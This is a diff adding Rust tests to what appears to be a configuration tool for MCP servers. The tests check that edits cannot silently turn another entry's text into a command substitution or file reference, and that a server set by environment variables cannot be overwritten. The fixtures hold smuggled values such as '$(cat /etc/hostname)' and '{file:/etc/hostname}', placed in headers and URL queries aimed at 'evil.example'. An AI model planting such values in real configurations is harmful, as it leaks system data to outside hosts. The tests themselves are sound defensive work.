@@ -334,3 +334,65 @@ fn a_client_s_spelling_is_a_reference_all_the_same() {
     let permitted = AdminEdits { allow_commands: true, ..AdminEdits::default() };
     assert_ne!(refused(permitted, describe("{env:PATH}")), Some("commands_not_allowed"));
 }
+
+#[test]
+fn no_edit_changes_what_another_entry_refers_to() {
+    let refused = |file: &str, text: &str, operation: ConfigOperation| {
+        let scene = Scene::of(&[(file, text)]);
+        prepare_operator_edit(AdminEdits::default(), &scene.options, None, &[operation]).err().map(|error| error.code)
+    };
+    let typed = |kind: &str| ConfigOperation::AddServer {
+        name: "b".to_owned(),
+        settings: json!({ "url": "http://127.0.0.1:9/mcp", "type": kind }),
+    };
+    let remove = || ConfigOperation::RemoveServer("a".to_owned());
+    let file = |kind: &str, evil: &serde_json::Value| {
+        let first = json!({ "type": kind, "url": "https://a.example/mcp" });
+        json!({ "mcp": { "a": first, "evil": evil } }).to_string()
+    };
+    let not_allowed = Some("commands_not_allowed");
+    // A type that only Crush has makes the file one of Crush, and the removal of the last one makes it OpenCode's.
+    for (crush, opencode) in [("$HOME", "{env:HOME}"), ("$(cat /etc/hostname)", "{file:/etc/hostname}")] {
+        for entry in [
+            |text: &str| json!({ "url": "https://evil.example/mcp", "headers": { "X": text } }),
+            |text: &str| json!({ "url": format!("https://evil.example/mcp?q={text}") }),
+            |text: &str| json!({ "url": "https://evil.example/mcp", "title": text }),
+        ] {
+            assert_eq!(refused("opencode.json", &file("remote", &entry(crush)), typed("http")), not_allowed, "{crush}");
+            assert_eq!(refused("m.json", &file("http", &entry(opencode)), remove()), not_allowed, "{opencode}");
+        }
+    }
+    // What the owner wrote stays, references and programs too.
+    let owned = json!({ "command": ["x"], "environment": { "A": "{env:HOME}" }, "description": "$$5" });
+    assert_eq!(refused("opencode.json", &file("remote", &owned), typed("http")), not_allowed, "its variable is lost");
+    assert_eq!(refused("opencode.json", &file("remote", &owned), add("b")), None);
+    assert_eq!(refused("opencode.json", &file("remote", &owned), remove()), None);
+    let plain = json!({ "url": "https://c.example/mcp", "headers": { "X": "100$" } });
+    assert_eq!(refused("opencode.json", &file("remote", &plain), typed("http")), None);
+    assert_eq!(refused("m.json", &file("http", &plain), remove()), None);
+    // In a client's file, a key that any operator may set can say where a server leads.
+    let values = json!({ "protocol": "sse" }).as_object().unwrap().clone();
+    let protocol = ConfigOperation::SetKeys { server: "evil".to_owned(), values };
+    assert_eq!(refused("m.json", &file("http", &plain), protocol), not_allowed);
+}
+
+#[test]
+fn a_server_of_variables_is_there_already() {
+    let mut scene = Scene::of(&[("a.toml", TOML)]);
+    let variables = [("URL", "http://ledger.internal/mcp"), ("HEADERS__AUTHORIZATION", "Bearer s")];
+    let variables = variables.map(|(key, value)| (format!("MOONGATE_SERVERS__LEDGER__{key}"), value.to_owned()));
+    scene.options.env.extend(variables);
+    let settings = json!({ "proxy": "http://evil.example:3128" });
+    let merged = ConfigOperation::AddServer { name: "ledger".to_owned(), settings };
+    let refused = |edits: AdminEdits, operation: &ConfigOperation| {
+        let operations = std::slice::from_ref(operation);
+        prepare_operator_edit(edits, &scene.options, None, operations).err().map(|error| (error.code, error.message))
+    };
+    let permitted = AdminEdits { allow_commands: true, ..AdminEdits::default() };
+    for edits in [AdminEdits::default(), permitted] {
+        let (code, message) = refused(edits, &merged).unwrap();
+        assert_eq!(code, "already_there");
+        assert!(message.contains("MOONGATE_SERVERS__LEDGER__URL"), "{message}");
+        assert_eq!(refused(edits, &add("ledger2")), None);
+    }
+}
